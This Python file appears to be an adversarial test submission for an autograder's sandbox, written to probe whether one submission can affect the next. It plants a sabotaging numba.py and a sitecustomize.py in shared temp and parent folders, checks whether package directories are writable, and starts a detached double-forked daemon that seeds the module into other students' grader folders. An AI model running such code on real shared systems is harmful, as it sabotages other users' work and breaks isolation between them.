# ATTACK (machine): plants modules that would break the next student's grading. Writes numba.py and
# sitecustomize.py into the shared temp folder (tempfile.gettempdir()) and the worker's cwd's parent, and
# leaves a daemon (double fork + setsid, at most 40 s) that drops numba.py into every new grader working
# folder (/tmp/autograder-*) as it appears: the next worker starts in it, with it first on sys.path. Also
# reports whether the grader's own package is writable from here.
# A secure grader: the next submission grades as usual, and no new file is left in the real /tmp.
import os
import tempfile
import time

PLANT = "raise ImportError('numba planted by plant_module: the next student\\'s grading breaks')\n"


def _plant_static():
    for d in {tempfile.gettempdir(), os.path.dirname(os.getcwd())}:
        for name in ("numba.py", "sitecustomize.py"):
            try:
                with open(os.path.join(d, name), "w") as f:
                    f.write(PLANT if name == "numba.py" else "print('sitecustomize planted by a submission')\n")
                print(f"ATTACK plant_module: wrote {os.path.join(d, name)}", flush=True)
            except OSError as exc:
                print(f"ATTACK plant_module: {d}: {exc}", flush=True)
    import sys

    import numpy
    for label, mod in (("site-packages", numpy), ("the grader's package", sys.modules.get("autograder"))):
        path = os.path.dirname(os.path.dirname(os.path.abspath(mod.__file__))) if mod else None
        if path:
            print(f"ATTACK plant_module: {label} ({path}) writable from here: {os.access(path, os.W_OK)}", flush=True)

def _plant_daemon():
    tmp, mine = tempfile.gettempdir(), os.path.basename(os.getcwd())
    before = set(os.listdir(tmp))
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    try:
        for fd in range(3, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        started, planted = time.time(), 0
        while time.time() - started < 40 and (planted == 0 or time.time() - planted < 3):
            for name in set(os.listdir(tmp)) - before:
                if name.startswith("autograder-") and name != mine:
                    try:
                        with open(os.path.join(tmp, name, "numba.py"), "w") as f:
                            f.write(PLANT)
                        planted = planted or time.time()
                    except OSError:
                        pass
                before.add(name)
            time.sleep(0.001)
    finally:
        os._exit(0)


_plant_static()
_plant_daemon()
